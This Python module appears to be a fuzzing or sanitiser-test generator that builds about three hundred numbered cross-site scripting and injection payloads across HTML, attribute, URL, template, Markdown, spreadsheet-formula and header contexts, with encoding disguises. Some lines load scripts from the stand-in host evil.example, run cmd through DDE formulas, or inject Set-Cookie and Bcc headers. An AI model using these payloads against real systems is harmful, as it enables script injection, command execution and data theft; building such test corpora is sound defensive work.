"""Three hundred ways to slip a script into a text, each with a mark of its own (`xs17s`) that shows where it went.

Every payload calls `alert`, or sets the global `pwned`, with its own number. None is a secret: they are the known ways,
by context (text, attribute, address, style, SVG and MathML, templates, light markup, sheets) and by disguise.
"""

import re
from collections.abc import Callable
from html import escape
from urllib.parse import quote

# `RUN` stands for the call.
TEXTS = (
    "<script>RUN</script>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>RUN</script>",
    "</script><script>RUN</script>",
    "</textarea><script>RUN</script>",
    "</title><script>RUN</script>",
    "</style><script>RUN</script>",
    "</option></select><script>RUN</script>",
    "--><script>RUN</script>",
    "]]><script>RUN</script>",
    "<!--><script>RUN</script>",
    "<img src=x onerror=RUN>",
    "<img/src=x/onerror=RUN>",
    "<img src='x' onerror='RUN'>",
    '<img src="x" onerror="RUN">',
    "<img src=x onerror=RUN",
    "<img src=//evil.example/p.png>",
    "<image src=x onerror=RUN>",
    "<svg onload=RUN>",
    "<svg/onload=RUN>",
    "<svg><script>RUN</script></svg>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    "<svg><set onbegin=RUN attributeName=x>",
    "<svg><a xlink:href=javascript:RUN><text y=9>x</text></a></svg>",
    "<svg><use href=//evil.example/x.svg#x></use></svg>",
    "<svg><foreignObject><iframe onload=RUN></foreignObject></svg>",
    "<math><mtext><img src=x onerror=RUN></mtext></math>",
    "<math href=javascript:RUN>x</math>",
    "<body onload=RUN>",
    "<body onpageshow=RUN>",
    "<input autofocus onfocus=RUN>",
    "<select autofocus onfocus=RUN>",
    "<textarea autofocus onfocus=RUN>",
    "<button autofocus onfocus=RUN>x</button>",
    "<details open ontoggle=RUN>",
    "<video src=x onerror=RUN>",
    "<video><source onerror=RUN></video>",
    "<audio src=x onerror=RUN>",
    "<iframe src=javascript:RUN>",
    "<iframe srcdoc='<script>parent.RUN</script>'>",
    "<iframe onload=RUN>",
    "<object data=javascript:RUN>",
    "<embed src=javascript:RUN>",
    "<marquee onstart=RUN>",
    "<div style=animation-name:x onanimationstart=RUN>",
    "<style>@keyframes x{}</style><p style=animation:x onanimationend=RUN>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
    "<form action=javascript:RUN><button>x</button></form>",
    "<button formaction=javascript:RUN>x</button>",
    "<isindex action=javascript:RUN>",
    "<a href=javascript:RUN>x</a>",
    "<a href='java\tscript:RUN'>x</a>",
    "<a href=&#106;avascript:RUN>x</a>",
    "<a href=data:text/html,<script>RUN</script>>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=RUN>'>",
    "<template><script>RUN</script></template>",
    "<xmp><p title='</xmp><img src=x onerror=RUN>'>",
    "<table background=javascript:RUN>",
    "<p id=x tabindex=1 onfocus=RUN>x</p>",
    "<x contenteditable onblur=RUN>x</x>",
    "<p hx-get=//evil.example/ hx-trigger=load>x</p>",
    "<p hx-on:load=RUN>x</p>",
    "<p data-hx-on--load=RUN>x</p>",
    "<portal src=javascript:RUN>",
    "<dialog open onclose=RUN>",
    "<input type=image src=x onerror=RUN>",
    "<keygen autofocus onfocus=RUN>",
)
ATTRIBUTES = (
    '" onmouseover=RUN x="',
    "' onmouseover=RUN x='",
    '" autofocus onfocus=RUN x="',
    "' autofocus onfocus=RUN x='",
    '"><script>RUN</script>',
    "'><script>RUN</script>",
    '"><img src=x onerror=RUN>',
    "'><svg onload=RUN>",
    "` onerror=RUN `",
    " onfocus=RUN autofocus ",
    '"/onfocus=RUN/autofocus/x="',
    '" style="background:url(javascript:RUN)',
    '" accesskey=x onclick=RUN x="',
    '" formaction=javascript:RUN x="',
    '" srcdoc="<script>RUN</script>',
    "\" onfocus='RUN' autofocus='",
    '&quot; onfocus=RUN autofocus x=&quot;',
    "&#34;&#62;<svg onload=RUN>",
    "\\\" onfocus=RUN autofocus //",
    "\\'-RUN-\\'",
    "'-RUN-'",
    '"-RUN-"',
    "';RUN;//",
    '";RUN;//',
    "`;RUN;//",
    "${RUN}",
    "</script><svg onload=RUN>",
)  # fmt: skip
ADDRESSES = (
    "javascript:RUN",
    "JaVaScRiPt:RUN",
    " javascript:RUN",
    "\tjavascript:RUN",
    "java\tscript:RUN",
    "java\nscript:RUN",
    "\x01javascript:RUN",
    "javascript&colon;RUN",
    "javascript://%0aRUN",
    "javascript:/*--></title></style></textarea></script><svg/onload=RUN>",
    "vbscript:RUN",
    "data:text/html,<script>RUN</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=RUN xmlns='http://www.w3.org/2000/svg'/>",
    "//evil.example/",
    "https://evil.example/?RUN",
    "\\\\evil.example\\x",
    "feed:javascript:RUN",
    "view-source:javascript:RUN",
    "blob:RUN",
    "/\\evil.example/RUN",
)
MARKUPS = (
    "[x](javascript:RUN)",
    "![x](x onerror=RUN)",
    "![x](//evil.example/p.png)",
    '[x]: javascript:RUN "x"',
    "<javascript:RUN>",
    "[url=javascript:RUN]x[/url]",
    "[img]x onerror=RUN[/img]",
    "```<script>RUN</script>```",
    "`<img src=x onerror=RUN>`",
    "# <svg onload=RUN>",
    "{{ RUN }}",
    "{{constructor.constructor('RUN')()}}",
    "{% if 1 %}<script>RUN</script>{% endif %}",
    "{% load i18n %}{% debug %}",
    "{{ request.user.password }}",
    "{{ form.as_p|safe }}<script>RUN</script>",
    "{# #}<script>RUN</script>",
    "<%= RUN %>",
    "<?php RUN ?>",
    "#{RUN}",
    "#set($x=RUN)",
    "%(x)s%(RUN)s",
    "%s%s%n<script>RUN</script>",
    "{0.__class__}<script>RUN</script>",
    "@(RUN)",
    "[[${RUN}]]",
    "*{RUN}",
    "~{::RUN}",
)
SHEETS = (
    "=cmd|'/c RUN'!A1",
    "=HYPERLINK(\"javascript:RUN\")",
    "=WEBSERVICE(\"//evil.example/RUN\")",
    "=IMPORTXML(\"//evil.example/RUN\")",
    "+RUN",
    "-RUN",
    "@SUM(RUN)",
    "\t=RUN",
    "\r=RUN",
    "=1+1+cmd|' /C RUN'!A0",
    "＝RUN",
    "＋RUN",
    '=DDE("cmd";"/C RUN";"x")',
    "BEGIN:VEVENT\r\nURL:javascript:RUN\r\nEND:VEVENT",
    "x\r\nSet-Cookie: a=RUN",
    "x\r\nBcc: RUN@evil.example",
    "x\r\n\r\n<script>RUN</script>",
)  # fmt: skip
WRITINGS = (
    "＜script＞RUN＜/script＞",
    "‹script›RUN‹/script›",
    "ʺ onfocus=RUN autofocus ʺ",
    "\u202e>tpircs/<RUN>tpircs<\u202c",
    "\u2066<script>RUN</script>\u2069",
    "\u200b<script>RUN</script>",
    "\ufeff<script>RUN</script>",
    "<scr\u200bipt>RUN</script>",
    "<ſcript>RUN</ſcript>",
    "<ımg src=x onerror=RUN>",
    "\u2028<script>RUN</script>\u2029",
    "+ADw-script+AD4-RUN+ADw-/script+AD4-",
    "¼script¾RUN¼/script¾",
    "\x1b$B<script>RUN</script>",
    "\\u003cscript\\u003eRUN\\u003c/script\\u003e",
    "\\x3cscript\\x3eRUN\\x3c/script\\x3e",
    "\\74script\\76RUN\\74/script\\76",
    "%u003Cscript%u003ERUN%u003C/script%u003E",
    "<%00script>RUN</script>",
    "<s\u0338cript>RUN</script>",
    "𝐬cript:RUN<svg onload=RUN>",
    "<img src=x onerror=\u2028RUN>",
    "<a href='\u3000javascript:RUN'>x</a>",
)


def _mixed(text: str) -> str:
    return re.sub("(?<=<)[a-z]+", lambda tag: "".join(c.upper() if n % 2 else c for n, c in enumerate(tag[0])), text)


# What a text is turned into so that a careless filter does not know it again.
DISGUISES: tuple[Callable[[str], str], ...] = (
    _mixed,
    lambda text: escape(text),
    lambda text: quote(text, safe=""),
    lambda text: text.replace(" ", "\x0c"),
    lambda text: text.replace("<", "<<"),
    lambda text: text.replace("script", "scrscriptipt").replace("onerror", "ononerrorerror"),
)
DISGUISED = TEXTS[:34]
CALLS = ("alert({n})", "pwned={n}", "alert`{n}`", "top['al'+'ert']({n})")


def _all() -> tuple[str, ...]:
    disguised = (disguise(text) for disguise in DISGUISES for text in DISGUISED)
    kinds = dict.fromkeys((*TEXTS, *ATTRIBUTES, *ADDRESSES, *MARKUPS, *SHEETS, *WRITINGS, *disguised))
    return tuple(_numbered(n, kind) for n, kind in enumerate(kinds))


def _numbered(n: int, kind: str) -> str:
    return kind.replace("RUN", CALLS[n % len(CALLS)].format(n=n)) + f"xs{n}s"


PAYLOADS = _all()
MARK = re.compile(r"xs(\d+)s")


def fitting(most: int, *, turn: int = 0, separator: str = " ") -> str:
    """As many payloads as a field of that size holds, others at every turn; at least one of the short ones."""
    start = turn % len(PAYLOADS)
    text = ""
    for one in (*PAYLOADS[start:], *PAYLOADS[:start]):
        longer = text + separator + one if text else one
        if len(longer) <= most:
            text = longer
        elif text and len(longer) > most:
            break
    return text or '"><svg onload=alert(0)>'[:most]


# No database keeps these: they are only ever thrown back.
UNKEPT = tuple(one.replace("<", "<\x00").replace("=", "=\x00") for one in PAYLOADS[:20])


def stretches(parts: int) -> list[str]:
    """All payloads, in that many long texts."""
    return ["\n".join(PAYLOADS[part::parts]) for part in range(parts)]
